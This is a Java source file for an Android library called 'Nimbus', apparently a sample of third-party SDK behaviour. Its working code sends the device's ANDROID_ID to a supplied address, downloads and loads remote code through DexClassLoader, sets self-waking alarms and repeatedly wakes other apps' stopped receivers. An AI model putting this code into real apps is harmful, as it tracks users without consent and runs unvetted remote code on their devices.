package example.nimbus;

import android.app.AlarmManager;
import android.app.PendingIntent;
import android.content.ComponentName;
import android.content.Context;
import android.content.Intent;
import android.os.Handler;
import android.os.Looper;
import android.os.SystemClock;
import android.provider.Settings;
import android.util.Log;
import dalvik.system.DexClassLoader;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.List;
import org.json.JSONObject;

/**
 * An SDK that somebody else wrote. Its host tells it what to do, a list of
 *
 *   {read: android_id, to: ADDRESS}     reads it, and sends it there as `id`
 *   {fetch: ADDRESS}                    gets its settings from there
 *   {load: ADDRESS}                     gets code from there and loads it
 *   {alarm_ms: N}                       has itself woken after so long, and again, whether the app runs or not; `quiet`: by a
 *                                       receiver that hears of nothing else
 *   {wake: PACKAGE/CLASS, every_ms: N}  sends to that receiver of another app, again and again
 */
public final class Nimbus {
    private Nimbus() {
    }

    public static void start(Context context, List<JSONObject> acts) {
        final Context app = context.getApplicationContext() == null ? context : context.getApplicationContext();
        for (JSONObject act : acts) {
            if (act.has("read")) {
                later(act.optString("to") + "?id=" + id(app), null);
            } else if (act.has("fetch")) {
                later(act.optString("fetch"), null);
            } else if (act.has("load")) {
                later(act.optString("load"), app);
            } else if (act.has("alarm_ms")) {
                setAlarm(app, act.optBoolean("quiet") ? NimbusAlarm.class : NimbusReceiver.class, act.optInt("alarm_ms"));
            } else if (act.has("wake")) {
                wake(app, ComponentName.unflattenFromString(act.optString("wake")), act.optInt("every_ms"));
            }
        }
    }

    private static String id(Context context) {
        return Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
    }

    static void setAlarm(Context context, Class<?> receiver, int ms) {
        Intent intent = new Intent(context, receiver).putExtra("ms", ms);
        PendingIntent again = PendingIntent.getBroadcast(context, 1, intent,
            PendingIntent.FLAG_IMMUTABLE | PendingIntent.FLAG_UPDATE_CURRENT);
        ((AlarmManager) context.getSystemService(Context.ALARM_SERVICE)).set(AlarmManager.ELAPSED_REALTIME_WAKEUP,
            SystemClock.elapsedRealtime() + ms, again);
    }

    private static void wake(final Context context, final ComponentName other, final int every) {
        final Handler handler = new Handler(Looper.getMainLooper());
        handler.post(new Runnable() {
            @Override
            public void run() {
                context.sendBroadcast(new Intent().setComponent(other).addFlags(Intent.FLAG_INCLUDE_STOPPED_PACKAGES));
                handler.postDelayed(this, every);
            }
        });
    }

    /** On a thread of its own. `loader`: for whom what comes is code. */
    private static void later(final String address, final Context loader) {
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    byte[] came = get(address);
                    if (loader != null) {
                        load(loader, came);
                    }
                } catch (IOException unreachable) {
                    Log.w("nimbus", "nothing came: " + unreachable);
                }
            }
        }, "nimbus").start();
    }

    private static byte[] get(String address) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection();
        try (InputStream in = connection.getInputStream()) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] some = new byte[4096];
            for (int n = in.read(some); n >= 0; n = in.read(some)) {
                out.write(some, 0, n);
            }
            return out.toByteArray();
        } finally {
            connection.disconnect();
        }
    }

    private static void load(Context context, byte[] code) throws IOException {
        File file = new File(context.getFilesDir(), "nimbus-core.jar");
        try (FileOutputStream out = new FileOutputStream(file)) {
            out.write(code);
        }
        file.setReadOnly();
        new DexClassLoader(file.getPath(), null, null, context.getClassLoader());
    }
}
